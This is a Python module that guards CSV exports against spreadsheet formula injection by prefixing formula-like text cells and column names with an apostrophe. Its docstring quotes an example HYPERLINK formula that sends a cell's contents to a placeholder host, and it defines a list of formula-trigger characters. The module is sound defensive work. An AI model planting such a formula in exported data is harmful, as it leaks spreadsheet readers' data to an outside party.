"""Make a table safe to open in a spreadsheet: text that a spreadsheet would run as a formula
is written as text.

Responses, model names, annotator names and categories come from models, people and files.
A CSV cell such as ``=HYPERLINK("http://host/?"&A1)`` or ``@SUM(...)`` is evaluated by Excel,
LibreOffice and Google Sheets when the file is opened, so an export would hand whoever wrote
that text a formula on the reader's machine. :func:`neutralise_formulas` puts a ``'`` before
every text cell (and column name) that starts with a character a spreadsheet reads as the
start of a formula: ``= + - @``, tab and carriage return (OWASP's list for CSV injection), and
the full-width ``＝ ＋ － ＠`` that some spreadsheets in East Asian locales accept as well. The
``'`` is the spreadsheet's own "this is text" mark, so the cell shows the original text.

Only text cells change: a number such as ``-0.5`` in a numeric column stays a number, while
the text ``"-0.5"`` or a response starting with ``-`` is neutralised. Every export writes CSV
this way unless told ``keep_formulas=True`` (``--keep-formulas`` on the command line), which
writes the exact text; Parquet and JSONL are not spreadsheet formats and always keep the data
exact.
"""

from __future__ import annotations

from pathlib import Path
from typing import overload

import pandas as pd

#: a text cell starting with one of these is read as a formula by some spreadsheet
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def neutralise_cell(value: object) -> object:
    """``value`` with a leading ``'`` when it is text a spreadsheet would run as a formula;
    anything else (numbers, missing values, other text) unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def neutralise_formulas(table: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``table`` for CSV export: text cells and column names that start with a
    formula character get a leading ``'`` (see the module docstring). Numeric columns and
    missing values are untouched; the input is not changed."""
    out = table.copy()
    for position in range(table.shape[1]):
        series = table.iloc[:, position]
        if isinstance(series.dtype, pd.CategoricalDtype):
            series = series.astype(object)
        elif not (series.dtype == object or isinstance(series.dtype, pd.StringDtype)):
            continue
        values = [neutralise_cell(v) for v in series]
        out.isetitem(position, pd.Series(values, index=series.index, dtype=series.dtype))
    out.columns = [neutralise_cell(c) for c in table.columns]
    return out


@overload
def table_to_csv(table: pd.DataFrame, path: None = None, *, keep_formulas: bool = ...) -> str: ...


@overload
def table_to_csv(table: pd.DataFrame, path: str | Path, *, keep_formulas: bool = ...) -> None: ...


def table_to_csv(
    table: pd.DataFrame, path: str | Path | None = None, *, keep_formulas: bool = False
) -> str | None:
    """``table.to_csv(path, index=False)``, neutralised unless ``keep_formulas``; the CSV text
    when ``path`` is ``None``. Every CSV the package writes goes through here."""
    shown = table if keep_formulas else neutralise_formulas(table)
    return shown.to_csv(path, index=False)
